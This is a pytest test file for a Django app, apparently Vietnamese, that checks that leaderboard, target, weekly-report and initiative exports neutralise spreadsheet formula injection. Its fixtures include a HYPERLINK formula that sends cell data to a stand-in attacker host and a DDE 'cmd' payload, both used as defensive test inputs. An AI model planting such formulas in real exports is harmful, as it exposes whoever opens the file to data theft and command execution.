"""Finding: a title or author name starting with `=` became a live formula in the XLSX
export; a unit officer who renamed their province put `=HYPERLINK(...)` into the
anonymous leaderboard CSV/XLSX and the weekly reports that everyone downloads.

Every export now writes cells through core.tabular.safe_cell; each one is opened
here with openpyxl (or read as CSV) and holds no formula."""

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from core.tabular import FORMULA_TRIGGERS, safe_cell
from federation.services import unit_rename
from rankings import services as ranking_services
from rankings.models import Target
from tests.factories import Role, UserFactory, grant
from tests.rankings.conftest import league, submit  # noqa: F401 - the fixture

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://ke-gian.example/?"&A1,"Bấm vào đây")'
EVIL_NAMES = [EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTab", "\rCR"]


def assert_no_formula(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_TRIGGERS), cell.value
                values.append(cell.value)
    return values


def assert_csv_neutral(content: bytes) -> list:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_TRIGGERS), value
    return [value for row in rows for value in row]


@pytest.mark.parametrize("value", EVIL_NAMES)
def test_safe_cell_prefixes_every_formula_trigger(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell(-5) == -5 and safe_cell("Cần Thơ") == "Cần Thơ"


@pytest.fixture
def evil_league(league):  # noqa: F811 - the fixture imported above
    unit_rename(unit=league.p1, name=EVIL, effective_date=dt.date(2025, 1, 1))
    league.p1.refresh_from_db()
    submit(league, league.g1, dt.date(2025, 2, 4), title="=1+1")
    return league


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_anonymous_leaderboard_export_holds_no_formula(client, evil_league, fmt):
    response = client.get(f"/xep-hang/?period=year&year=2025&format={fmt}")
    assert response.status_code == 200
    check = assert_csv_neutral if fmt == "csv" else assert_no_formula
    assert "'" + EVIL in check(response.content)


def test_recognition_and_target_exports_hold_no_formula(client, evil_league):
    leader = UserFactory(email="lanhdao@example.vn")
    grant(leader, Role.LEADERSHIP, evil_league.root)
    client.force_login(leader, backend="accounts.auth_backends.EmailOrPhoneBackend")
    Target.objects.create(
        unit=evil_league.p1,
        starts_on=dt.date(2025, 1, 1),
        ends_on=dt.date(2025, 12, 31),
        count=10,
        set_by=leader,
    )
    for url in (
        "/xep-hang/khen-thuong/?year=2025&quarter=1&format=xlsx",
        "/xep-hang/don-vi/TLD/chi-tieu/?format=xlsx",
        "/xep-hang/bang-dieu-khien/?period=year&year=2025&format=xlsx",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_no_formula(response.content)
    response = client.get("/xep-hang/don-vi/TLD/chi-tieu/?format=csv")
    assert "'" + EVIL in assert_csv_neutral(response.content)


def test_the_weekly_report_holds_no_formula(evil_league):
    report = ranking_services.weekly_report_generate(
        unit=evil_league.root, week=dt.date(2025, 2, 5), email=False
    )
    values = assert_no_formula(report.xlsx.read())
    assert "'=1+1" in values


def test_the_initiative_export_holds_no_formula(client, evil_league):
    officer = UserFactory(email="canbo@example.vn")
    grant(officer, Role.UNIT_OFFICER, evil_league.p1)
    client.force_login(officer, backend="accounts.auth_backends.EmailOrPhoneBackend")
    from initiatives.models import Initiative

    Initiative.objects.update(title='=HYPERLINK("http://x")')
    Initiative.objects.get().authors.update(full_name="@SUM(1)")
    response = client.get(f"/sang-kien/nhap/xuat/?unit={evil_league.p1.code}")
    assert response.status_code == 200
    values = assert_no_formula(b"".join(response.streaming_content))
    assert '\'=HYPERLINK("http://x")' in values
